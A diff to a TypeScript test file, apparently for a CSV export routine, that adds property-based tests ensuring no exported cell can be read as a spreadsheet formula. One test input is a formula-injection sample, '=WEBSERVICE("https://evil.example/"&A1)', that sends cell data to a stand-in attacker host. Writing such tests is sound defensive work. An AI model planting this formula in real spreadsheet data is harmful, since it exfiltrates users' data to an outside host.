@@ -21,26 +21,40 @@ test("a program that separates at semicolons, commas and tabs reads the same cel
   ]);
 });
 
-test("no text of an export is a formula", () => {
-  for (const text of ["=1+1", "+90532", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\0=1", "＝1"])
-    assert.match(read(turkish([text]))[0]?.[0] ?? "", /^'/, JSON.stringify(text));
-  fc.assert(
-    fc.property(fc.string(), (text) => {
-      const [[cell = ""] = []] = read(turkish([text, "end"]));
-      assert.doesNotMatch(cell, /^\s*[=+\-@]/);
-    }),
+/** As a program reads the file that separates at this character, and does not see quotes inside a cell as quotes. */
+function cellsOf(text: string, separator: string): string[] {
+  return text.split(/\r\n|[\r\n]/).flatMap((line) => line.split(separator).map((cell) => cell.replace(/^[\s"]+/, "")));
+}
+
+test("no part of a text is a formula, whichever of ; , and tab a program separates at", () => {
+  const begins = fc.constantFrom("=", "+", "-", "@", "＝", "＋", "－", "＠");
+  const parts = fc.oneof(
+    begins,
+    fc.constantFrom(",", ";", "\t", "\r", "\n", '"', " ", "\u00A0", "\0", "'"),
+    fc.string(),
   );
+  const isFormula = (cell: string) => /^[=+\-@＝＋－＠]/.test(cell);
+  const check = (text: string) => {
+    for (const separator of [",", ";", "\t"])
+      assert.deepEqual(cellsOf(turkish(["first", text, "end"]), separator).filter(isFormula), [], JSON.stringify(text));
+    const [[, cell = ""] = []] = read(turkish(["first", text, "end"]));
+    assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/);
+  };
+  for (const text of ["=1+1", "+90532", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\0=1", "＝1"]) check(text);
+  check('Ali,=WEBSERVICE("https://evil.example/"&A1),');
+  fc.assert(fc.property(fc.array(parts, { maxLength: 12 }), (texts) => check(texts.join(""))));
 });
 
-test("every text is read back as it was, whatever characters it has", () => {
+test("a text that cannot be a formula is read back as it was, whatever characters it has", () => {
+  const harmless = fc.string({ unit: "binary" }).map((text) => text.replaceAll(/[=+\-@＝＋－＠]/g, "x"));
   fc.assert(
-    fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 5 }), (texts) => {
+    fc.property(fc.array(harmless, { minLength: 1, maxLength: 5 }), (texts) => {
       const [cells = []] = read(english([...texts, "end"]));
-      const shown = cells.map((cell) => cell.replace(/^'(?=\s*[=+\-@\t\r＝＋－＠])/, ""));
       assert.deepEqual(
-        shown.slice(0, -1),
+        cells.slice(0, -1),
         texts.map((text) => text.replaceAll("\0", "")),
       );
     }),
   );
+  assert.equal(english(["Işık Ltd. - 2 x @home", "end"]), "Işık Ltd. - 2 x @home;end\r\n");
 });
